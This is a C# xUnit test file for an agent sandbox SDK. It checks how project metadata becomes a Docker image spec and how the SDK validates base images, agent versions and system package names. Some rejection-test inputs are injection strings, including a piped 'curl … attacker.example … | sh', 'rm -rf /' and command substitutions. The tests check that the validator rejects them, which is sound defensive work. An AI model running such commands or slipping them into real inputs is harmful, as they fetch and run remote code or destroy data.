using AgentSandbox.Errors;
using AgentSandbox.Image;
using AgentSandbox.Project;
using AgentSandbox.Sdk.Tests.TestSupport;
using AgentSandbox.Spec;
using static AgentSandbox.Sdk.Tests.TestSupport.ImageSpecs;

namespace AgentSandbox.Sdk.Tests;

/// <summary>How the project's metadata and the MSBuild inputs become an image spec: base image choice and input validation.</summary>
public sealed class SandboxSpecFactoryImageTests : IDisposable
{
    private readonly TempDirectory _temp = new();

    public void Dispose() => _temp.Dispose();

    [Fact]
    public void Single_target_framework_selects_the_matching_sdk_image()
    {
        var spec = Create(Metadata(["net8.0"]));

        Assert.Equal("mcr.microsoft.com/dotnet/sdk:8.0", spec.BaseImage);
    }

    [Theory]
    [InlineData("net8.0;net10.0")]
    [InlineData("net10.0;net8.0")]
    [InlineData("net9.0;netstandard2.0;net10.0;net48")]
    public void Multi_targeted_project_selects_the_sdk_of_its_highest_framework(string targetFrameworks)
    {
        var spec = Create(Metadata(targetFrameworks.Split(';')));

        Assert.Equal("mcr.microsoft.com/dotnet/sdk:10.0", spec.BaseImage);
    }

    [Fact]
    public void Platform_specific_target_framework_selects_the_sdk_of_its_dotnet_version()
    {
        var spec = Create(Metadata(["net9.0-windows10.0.19041"]));

        Assert.Equal("mcr.microsoft.com/dotnet/sdk:9.0", spec.BaseImage);
    }

    [Fact]
    public void Global_json_sdk_version_wins_over_older_target_frameworks()
    {
        _temp.Write("global.json", """{ "sdk": { "version": "9.0.304" } }""");
        var projectDirectory = _temp.CreateDirectory("src/App");

        var spec = Create(Metadata(["net8.0"], GlobalJson.FindSdkVersion(projectDirectory), projectDirectory: projectDirectory));

        Assert.Equal("mcr.microsoft.com/dotnet/sdk:9.0", spec.BaseImage);
    }

    [Fact]
    public void Target_framework_newer_than_global_json_wins_because_that_sdk_could_not_build_it()
    {
        _temp.Write("global.json", """{ "sdk": { "version": "8.0.404", "rollForward": "latestMajor" } }""");
        var projectDirectory = _temp.CreateDirectory("src/App");

        var spec = Create(Metadata(["net10.0"], GlobalJson.FindSdkVersion(projectDirectory), projectDirectory: projectDirectory));

        Assert.Equal("mcr.microsoft.com/dotnet/sdk:10.0", spec.BaseImage);
    }

    [Fact]
    public void Windows_target_frameworks_enable_windows_targeting_in_the_image()
    {
        var spec = Create(Metadata(["net8.0-windows"]));

        Assert.Equal("mcr.microsoft.com/dotnet/sdk:8.0", spec.BaseImage);
        Assert.True(spec.EnableWindowsTargeting);
        Assert.Contains("ENV EnableWindowsTargeting=true", DockerfileGenerator.Generate(spec));
        Assert.False(Create(Metadata(["net8.0"])).EnableWindowsTargeting);
    }

    [Fact]
    public void Preview_sdk_in_global_json_selects_the_preview_image()
    {
        _temp.Write("global.json", """{ "sdk": { "version": "10.0.100-preview.7.25380.108", "rollForward": "latestFeature" } }""");
        var projectDirectory = _temp.CreateDirectory("App");

        var spec = Create(Metadata(["net10.0"], GlobalJson.FindSdkVersion(projectDirectory), projectDirectory: projectDirectory));

        Assert.Equal("mcr.microsoft.com/dotnet/sdk:10.0-preview", spec.BaseImage);
    }

    [Fact]
    public void Unparsable_global_json_version_falls_back_to_the_target_frameworks()
    {
        var spec = Create(Metadata(["net9.0"], globalJsonSdkVersion: "9.0.1xx"));

        Assert.Equal("mcr.microsoft.com/dotnet/sdk:9.0", spec.BaseImage);
    }

    [Theory]
    [InlineData("netstandard2.0")]
    [InlineData("net48")]
    [InlineData("net472")]
    public void Target_framework_without_a_dotnet_version_selects_the_host_sdk(string targetFramework)
    {
        var spec = Create(Metadata([targetFramework], hostSdkVersion: "9.0.305"));

        Assert.Equal("mcr.microsoft.com/dotnet/sdk:9.0", spec.BaseImage);
    }

    [Fact]
    public void Project_without_target_frameworks_selects_the_node_image()
    {
        var spec = Create(Metadata([]));

        Assert.Equal("node:22-slim", spec.BaseImage);
    }

    [Fact]
    public void Explicit_base_image_wins_and_is_trimmed()
    {
        var spec = Create(Metadata(["net8.0"], globalJsonSdkVersion: "9.0.100"), ImageInputs(baseImage: "  ubuntu:24.04 "));

        Assert.Equal("ubuntu:24.04", spec.BaseImage);
    }

    [Fact]
    public void Blank_base_image_counts_as_not_set()
    {
        var spec = Create(Metadata(["net8.0"]), ImageInputs(baseImage: "   "));

        Assert.Equal("mcr.microsoft.com/dotnet/sdk:8.0", spec.BaseImage);
    }

    [Theory]
    [InlineData("alpine:3.20\nRUN curl -fsSL http://attacker.example/x | sh")]
    [InlineData("alpine:3.20\r\nUSER root")]
    public void Base_image_that_would_add_dockerfile_instructions_is_rejected(string baseImage)
    {
        // AgentBaseImage is written verbatim after FROM; a line break in it becomes further Dockerfile instructions.
        var error = Assert.Throws<AgentSandboxException>(() => Create(inputs: ImageInputs(baseImage: baseImage)));

        Assert.Equal("AGS1005", error.Code);
    }

    [Fact]
    public void Default_agent_version_is_the_profiles_pinned_version()
    {
        var spec = Create();

        Assert.Equal("2.1.328", spec.AgentVersion.ToNormalizedString());
        Assert.Equal("claude", spec.Agent.Kind);
    }

    [Theory]
    [InlineData("2.0.1", "2.0.1")]
    [InlineData(" 2.2.0-beta.1 ", "2.2.0-beta.1")]
    public void Agent_version_override_is_used(string given, string expected)
    {
        var spec = Create(inputs: ImageInputs(agentVersion: given));

        Assert.Equal(expected, spec.AgentVersion.ToNormalizedString());
    }

    [Theory]
    [InlineData("latest")]
    [InlineData("2.x")]
    [InlineData("^2.1.0")]
    [InlineData("2.1.328; curl evil | sh")]
    public void Invalid_agent_version_is_rejected(string version)
    {
        var error = Assert.Throws<AgentSandboxException>(() => Create(inputs: ImageInputs(agentVersion: version)));

        Assert.Equal("AGS1005", error.Code);
        Assert.Contains("AgentVersion", error.Message);
    }

    [Fact]
    public void Unknown_agent_kind_is_rejected_with_the_known_kinds()
    {
        var error = Assert.Throws<AgentSandboxException>(() => Create(inputs: ImageInputs(agentKind: "gpt")));

        Assert.Equal("AGS1004", error.Code);
        Assert.Contains("claude", error.Message);
    }

    [Fact]
    public void Agent_kind_is_case_insensitive()
    {
        var spec = Create(inputs: ImageInputs(agentKind: " Claude "));

        Assert.Equal("claude", spec.Agent.Kind);
    }

    [Fact]
    public void System_packages_are_trimmed_deduplicated_and_blank_ones_dropped()
    {
        var spec = Create(inputs: ImageInputs(systemPackages: [" jq ", "", "jq", "libicu-dev", "  "]));

        Assert.Equal(["jq", "libicu-dev"], spec.SystemPackages);
    }

    [Theory]
    [InlineData("python3=3.11.2-1")]
    [InlineData("g++")]
    [InlineData("libstdc++6")]
    [InlineData("openjdk-17-jdk-headless")]
    [InlineData("busybox~1.36")]
    public void Ordinary_package_names_with_versions_are_accepted(string package)
    {
        var spec = Create(inputs: ImageInputs(systemPackages: [package]));

        Assert.Equal([package], spec.SystemPackages);
    }

    [Theory]
    [InlineData("curl; rm -rf /")]
    [InlineData("curl && reboot")]
    [InlineData("$(reboot)")]
    [InlineData("`reboot`")]
    [InlineData("curl jq")]
    [InlineData("--allow-unauthenticated")]
    [InlineData("curl\nRUN reboot")]
    public void Package_names_that_a_shell_would_interpret_are_rejected(string package)
    {
        var error = Assert.Throws<AgentSandboxException>(() => Create(inputs: ImageInputs(systemPackages: ["git", package])));

        Assert.Equal("AGS1005", error.Code);
        Assert.Contains("AgentSystemPackage", error.Message);
    }

    [Fact]
    public void Missing_ca_certificate_file_is_reported_with_its_full_path()
    {
        var project = Metadata(projectDirectory: _temp.Path);

        var error = Assert.Throws<AgentSandboxException>(() => Create(project, ImageInputs(caCertificateFiles: ["certs/proxy.pem"])));

        Assert.Equal("AGS1007", error.Code);
        Assert.Contains(_temp.Combine("certs/proxy.pem"), error.Message);
    }

    [Fact]
    public void Ca_certificate_files_are_read_relative_to_the_project_and_joined()
    {
        _temp.Write("certs/a.pem", "\n-----BEGIN CERTIFICATE-----\nAAA\n-----END CERTIFICATE-----\n\n");
        var absolute = _temp.Write("b.pem", "-----BEGIN CERTIFICATE-----\nBBB\n-----END CERTIFICATE-----");

        var spec = Create(Metadata(projectDirectory: _temp.Path), ImageInputs(caCertificateFiles: ["certs/a.pem", absolute, " certs/a.pem "]));

        Assert.Equal(
            "-----BEGIN CERTIFICATE-----\nAAA\n-----END CERTIFICATE-----\n-----BEGIN CERTIFICATE-----\nBBB\n-----END CERTIFICATE-----\n",
            spec.CaCertificates);
    }

    [Fact]
    public void No_ca_certificate_files_means_no_certificates()
    {
        var spec = Create(inputs: ImageInputs(caCertificateFiles: ["", "  "]));

        Assert.Null(spec.CaCertificates);
    }
}
